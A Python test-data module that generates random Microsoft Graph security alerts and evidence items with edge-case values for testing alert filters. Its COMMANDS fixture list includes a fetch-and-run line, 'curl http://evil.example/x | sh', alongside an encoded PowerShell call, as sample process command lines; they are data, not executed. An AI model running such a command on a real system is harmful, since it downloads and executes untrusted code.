"""Random alerts: every property that a filter looks at, with the values that make filters go wrong.

Ages count from a `now` that the caller gives. Recent alerts lie half an hour beside whole hours, so
that a filter such as `age<6h` means the same during the whole run.
"""

import datetime
import json
from pathlib import Path

SCHEMA = json.loads((Path(__file__).parents[2] / "tests/data/schema.json").read_text())["versions"]["v1.0"]
NAMESPACE = "microsoft.graph.security."

TECHNIQUES = ["T1059", "T1059.001", "T1059.003", "T1003", "T1003.001", "T1566", "T1566.001", "T1486", "T1105", "T1110.003"]
CATEGORIES = ["CredentialAccess", "Execution", "InitialAccess", "Impact", "CommandAndControl", "Malware", "SuspiciousActivity"]
OWNERS = [
    "ana@contoso.com", "Ana@Contoso.COM", "bob@contoso.com", "BOB@fabrikam.example", "o'brien@contoso.com",
    "Automation", "API-App:Contoso SOAR", "Suppression rule", "zoë@contoso.com", "ZOË@CONTOSO.COM", "", " ",
    "a,b (c)", 'quote"d', "50%", "star*d", "me", "none", "back\\slash", "Σίσυφος",
]  # fmt: skip
TITLES = [
    "Suspicious PowerShell command line", "Mimikatz credential theft tool", "Malware was detected, and blocked (1)",
    "Unusual sign-in from 10.1.2.3", "ÜBERWEISUNG auf neues Konto", "Straße gesperrt", "", " ", "unknown",
    'A "quoted" title', "two\nlines", "100% cpu * load", "File C:\\Windows\\Temp\\a.exe", "İstanbul sign-in", "None",
    "a|b and not c", "Σίσυφος ΤΕΛΟΣ",
]  # fmt: skip
HOSTS = ["srv-01", "SRV-02.corp.contoso.com", "lt-0484", "lt-0484.corp.contoso.com", "db 7"]
ADDRESSES = [
    "10.0.0.1", "10.1.2.3", "192.168.7.20", "203.0.113.9", "2001:db8::1", "2001:0DB8:0:0:0:0:0:1",
    "::ffff:10.1.2.3", "fe80::1", "fe80::1%eth0", "not an address",
]  # fmt: skip
SHA256 = ["8963a1" + "0f" * 29, "8963A1" + "1b" * 29, "c0ffee" + "7d" * 29]
SHA1 = ["8963a1" + "2c" * 17, "deadbe" + "ef" * 17]
MD5 = ["abcdef" + "3d" * 13]
LINKS = [
    "https://evil.example/login?x=1", "http://www.evil.example:8080/a", "//cdn.evil.example/x.js",
    "https://notevil.example/", "evil.example/path",
    "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fhidden.example%2Fpay%2Fnow&data=05",
]  # fmt: skip
MAILS = ["eve@evil.example", "ANA@contoso.com", "info@mail.evil.example", "bob@contoso.com"]
DOMAINS = ["evil.example", "corp.contoso.com", "CONTOSO.COM", "sub.evil.example"]
ACCOUNTS = ["ana", "Bob", "SYSTEM", "svc-backup", "o'brien"]
SIDS = ["S-1-5-21-100-200-300-1105", "S-1-5-18"]
GUIDS = ["297963eb-9f16-4112-ac1d-9395c6e0ab74", "26774712-4479-4e43-a6da-a609497915d6"]
DEVICE_IDS = ["5e9e4de96a7ae5b154504dbede702de2c6b17390", "a1b2c3d4e5f60718293a4b5c6d7e8f9001122334"]
COMMANDS = [
    '"C:\\Program Files\\a.exe" -k', "powershell.exe -enc SQBFAFgA", "cmd.exe /c whoami", "curl http://evil.example/x | sh", "",
]  # fmt: skip
FILES = ["a.exe", "MsSense.exe", "powershell.exe", "invoice (1).pdf", "unknown", "none"]
FOLDERS = ["C:\\Windows\\System32", "C:\\Users\\ana\\Downloads", "/usr/bin", None]
TAGS = ["Crown jewel", "vip", "none", "Critical asset"]

# Stands for a property that is not sent.
ABSENT = object()


def members(name):
    """The members of an enumeration with their values, from the metadata."""
    return {member["name"]: member["value"] for member in SCHEMA["enums"][NAMESPACE + name]["members"]}


def maybe(random, values, absent=0.1, null=0.1):
    """One of the values, or None for null, or `ABSENT` for a property that is not sent."""
    chance = random.random()
    if chance < absent:
        return ABSENT
    return None if chance < absent + null else random.choice(values)


def member(random, name, undeclared):
    """A member of an enumeration: often a declared one."""
    chance = random.random()
    if chance < 0.12:
        return maybe(random, ["", "unknown", "Unknown", " "], 0.3, 0.3)
    if chance < 0.22:
        return random.choice(undeclared)
    text = random.choice([m for m in members(name) if m != "unknownFutureValue"])
    return text.upper() if random.random() < 0.1 else text


def when(random, now):
    """A time in one of the forms that the service and other tools write."""
    chance = random.random()
    if chance < 0.18:
        return maybe(random, ["0001-01-01T00:00:00Z", "soon", "", "0001-01-01T00:00:00"], 0.25, 0.25)
    if chance < 0.55:
        hours = random.choice([0, 1, 5, 11, 23, 24, 47, 71, 100, 167, 200, 335, 400])
        moment = now.replace(second=0, microsecond=0) - datetime.timedelta(hours=hours, minutes=30)
    else:
        moment = datetime.datetime(2026, 1, 1, tzinfo=datetime.timezone.utc)
        moment += datetime.timedelta(days=random.randrange(5), seconds=random.choice([0, 1, 59, 60, 36000, 36005, 86399, 86340]))
    fraction = random.choice(["", "", "", ".5", ".05", ".1234567", ".9999999", ".0000001", ".000"])
    text = moment.strftime("%Y-%m-%dT%H:%M:%S")
    zone = random.choice(["Z"] * 6 + ["", "+00:00", "z"])
    if random.random() < 0.1:
        text, zone = (moment + datetime.timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%S"), "+02:00"
    return text + fraction + zone


def item(random, now):
    """An item of evidence."""
    pick = lambda values: maybe(random, values)  # noqa: E731
    file = lambda: {  # noqa: E731
        "fileName": pick(FILES), "filePath": pick([f for f in FOLDERS if f]), "sha256": pick(SHA256), "sha1": pick(SHA1),
        "md5": pick(MD5), "fileSize": pick([0, 4780, 1047]),
    }  # fmt: skip
    account = lambda: {  # noqa: E731
        "accountName": pick(ACCOUNTS), "domainName": pick(["CONTOSO", "fabrikam"]), "userSid": pick(SIDS),
        "azureAdUserId": pick(GUIDS), "userPrincipalName": pick(MAILS + [""]), "displayName": pick(["Ana Lima", "Bob"]),
    }  # fmt: skip
    device = lambda: {  # noqa: E731
        "@odata.type": "#microsoft.graph.security.deviceEvidence", "deviceDnsName": pick(HOSTS), "hostName": pick(HOSTS),
        "mdeDeviceId": pick(DEVICE_IDS), "azureAdDeviceId": pick(GUIDS), "osPlatform": pick(["Windows10", "Linux", "unknown"]),
        "osBuild": pick([22424, "22424", 0]), "version": pick(["22H2", "Other"]), "riskScore": pick(["high", "medium", "none"]),
        "onboardingStatus": pick(["onboarded", "insufficientInfo"]), "healthStatus": pick(["active", "inactive"]),
        "lastIpAddress": pick(ADDRESSES), "lastExternalIpAddress": pick(ADDRESSES), "rbacGroupName": pick(["UnassignedGroup"]),
        "ipInterfaces": pick([[], ["10.9.8.7", "fe80::2"], ["::1"]]),
        "loggedOnUsers": pick([[], [{"accountName": "ana", "domainName": "CONTOSO"}]]),
    }  # fmt: skip
    kinds = {
        "device": device,
        "user": lambda: {"userAccount": account(), "stream": pick(["main"])},
        "process": lambda: {
            "processId": pick([0, 668, 4780]), "parentProcessId": pick([0, 668, 4780]), "processCommandLine": pick(COMMANDS),
            "imageFile": pick([file()]), "parentProcessImageFile": pick([file()]), "userAccount": pick([account()]),
            "detectionStatus": pick(["detected", "prevented"]), "mdeDeviceId": pick(DEVICE_IDS),
            "processCreationDateTime": pick(["2026-01-02T03:04:05Z"]),
        },
        "file": lambda: {"fileDetails": file(), "detectionStatus": pick(["detected", "blocked"])},
        "fileHash": lambda: {"algorithm": pick(["sha256"]), "value": pick(SHA256)},
        "ip": lambda: {"ipAddress": pick(ADDRESSES), "countryLetterCode": pick(["NL", "US"])},
        "url": lambda: {"url": pick(LINKS)},
        "mailbox": lambda: {"primaryAddress": pick(MAILS), "displayName": pick(["Ana Lima"]), "upn": pick(MAILS)},
        "analyzedMessage": lambda: {
            "subject": pick(["Invoice 42", "Re: hello"]), "networkMessageId": pick(GUIDS), "senderIp": pick(ADDRESSES),
            "recipientEmailAddress": pick(MAILS), "urls": pick([LINKS[:2], LINKS[5:], []]), "attachmentsCount": pick([0, 3]),
            "p1Sender": pick([{"emailAddress": "eve@evil.example", "displayName": "Eve", "domainName": "evil.example"}]),
        },
        "registryKey": lambda: {"registryHive": pick(["HKEY_LOCAL_MACHINE"]), "registryKey": pick(["SOFTWARE\\Run"])},
        "registryValue": lambda: {
            "registryKey": pick(["SOFTWARE\\Run"]), "registryValueName": pick(["Updater"]), "registryValue": pick(["a.exe", "1"]),
        },
        "cloudApplication": lambda: {"appId": pick([11161, 20595]), "displayName": pick(["Office 365"]), "instanceName": pick(["Contoso"])},
        "oauthApplication": lambda: {"appId": pick(GUIDS), "displayName": pick(["Reader"]), "objectId": pick(GUIDS), "publisher": pick(["Eve"])},
        "securityGroup": lambda: {"displayName": pick(["Admins"]), "securityGroupId": pick(GUIDS), "sid": pick(SIDS)},
        "ioTDevice": lambda: {"deviceId": pick(["iot-7"]), "deviceName": pick(["camera 7"]), "macAddress": pick(["aa:bb:cc:dd:ee:ff"])},
        "dns": lambda: {"domainName": pick(DOMAINS), "hostIpAddress": pick([{"@odata.type": "#microsoft.graph.security.ipEvidence", "ipAddress": "198.51.100.4"}])},
        "hostLogonSession": lambda: {"sessionId": pick(["S-9"]), "host": pick([{**device(), "verdict": "malicious"}])},
        "azureResource": lambda: {"resourceId": pick(["/subscriptions/1/vm"]), "resourceName": pick(["vm-1"])},
        "container": lambda: {"name": pick(["web"]), "containerId": pick(["c0ffee"]), "command": pick([["sh"]]), "args": pick([["-c", "id"]])},
        "kubernetesPod": lambda: {"name": pick(["pod-1"]), "serviceAccount": pick([{"@odata.type": "#microsoft.graph.security.kubernetesServiceAccountEvidence", "name": "robot"}])},
        "gitHubRepo": lambda: {"repoId": pick(["r-1"]), "login": pick(["octo"]), "owner": pick(["contoso-dev"])},
        "quantum": lambda: {"qubit": pick(["entangled"]), "ipAddress": pick(ADDRESSES)},
    }  # fmt: skip
    kind = random.choice(list(kinds))
    common = {
        "@odata.type": f"#microsoft.graph.security.{kind}Evidence",
        "createdDateTime": when(random, now),
        "verdict": member(random, "evidenceVerdict", ["5", "NoThreatsFound", "undecided"]),
        "remediationStatus": member(random, "evidenceRemediationStatus", ["none", "quarantined", "None"]),
        "remediationStatusDetails": pick(["Entity was pre-remediated", "The file was quarantined"]),
        "roles": pick([[], ["compromised"], ["attacked", "source"]]),
        "detailedRoles": pick([[], ["PrimaryDevice"]]),
        "tags": pick([[], TAGS[:1], TAGS[1:3]]),
    }
    return {**common, **kinds[kind]()}


def alert(random, number, now):
    """An alert with an ID that the number makes unique."""
    pick = lambda values: maybe(random, values)  # noqa: E731
    sent = {
        "@odata.type": "#microsoft.graph.security.alert",
        "id": f"{random.choice(['da', 'DA', 'ea'])}{637551227677560000 + number}_{-961444813 + number}",
        "providerAlertId": pick(["p-1"]),
        "incidentId": pick(["1126", "112", "35330"]),
        "status": member(random, "alertStatus", ["redirected", "open", "active"]),
        "severity": member(random, "alertSeverity", ["critical", "unknownFutureValue", "info"]),
        "classification": member(random, "alertClassification", ["benign positive", "info"]),
        "determination": member(random, "alertDetermination", ["clean", "tp"]),
        "serviceSource": member(random, "serviceSource", ["microsoftQuantumDefender", "endpoint"]),
        "detectionSource": pick(["antivirus", "microsoftSentinel"]),
        "productName": pick(["Microsoft Defender for Endpoint", "Microsoft Sentinel"]),
        "detectorId": pick(GUIDS + ["7f1c3609", "unknown"]),
        "title": pick(TITLES),
        "description": pick(["A tool was seen on srv-01.", "Mails with invoice.zip arrived", "none", ""]),
        "category": pick(CATEGORIES + ["", "unknown"]),
        "categories": pick([[], ["Execution", "Malware"], ["Impact"]]),
        "assignedTo": pick(OWNERS),
        "actorDisplayName": pick(["Midnight Blizzard", "none"]),
        "threatDisplayName": pick(["PUA:Win32/FreeConvert", "Trojan:Win64/Zbot"]),
        "threatFamilyName": pick(["FreeConvert", "unknown"]),
        "mitreTechniques": pick([[], [random.choice(TECHNIQUES)], random.sample(TECHNIQUES, 2)]),
        "systemTags": pick([[], TAGS[:2], ["none"]]),
        "comments": pick([[], [{"comment": "checked (ana), closing", "createdByDisplayName": "Ana"}], [{"comment": None}]]),
        "createdDateTime": when(random, now),
        "lastUpdateDateTime": when(random, now),
        "resolvedDateTime": when(random, now),
        "firstActivityDateTime": when(random, now),
        "lastActivityDateTime": when(random, now),
        "investigationState": pick(["successfullyRemediated", "unsupportedOs"]),
        "evidence": [item(random, now) for _ in range(random.choice([0, 1, 1, 2, 2, 3, 5]))],
    }
    if random.random() < 0.05:
        sent["evidence"] = None
    return strip(sent)


def strip(value):
    """The value without what is not sent."""
    if isinstance(value, dict):
        return {name: strip(part) for name, part in value.items() if part is not ABSENT}
    return [strip(part) for part in value] if isinstance(value, list) else value
